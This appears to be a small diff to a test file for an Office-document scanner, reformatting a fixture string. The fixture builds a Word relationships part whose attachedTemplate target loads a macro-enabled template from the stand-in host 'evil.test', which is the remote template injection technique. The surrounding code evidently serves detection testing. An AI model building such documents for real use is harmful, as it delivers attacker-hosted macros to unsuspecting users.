@@ -59,7 +59,8 @@ WARNED = {
         words.word_file(
             WORDS,
             parts={
-                "word/_rels/settings.xml.rels": f'<Relationships xmlns="{PACKED}"><Relationship Id="a" '
+                "word/_rels/settings.xml.rels": f'<Relationships xmlns="{PACKED}">'
+                '<Relationship Id="a" '
                 f'Type="{RELATED}/attachedTemplate" Target="http://evil.test/a.dotm" '
                 'TargetMode="External"/></Relationships>'
             },
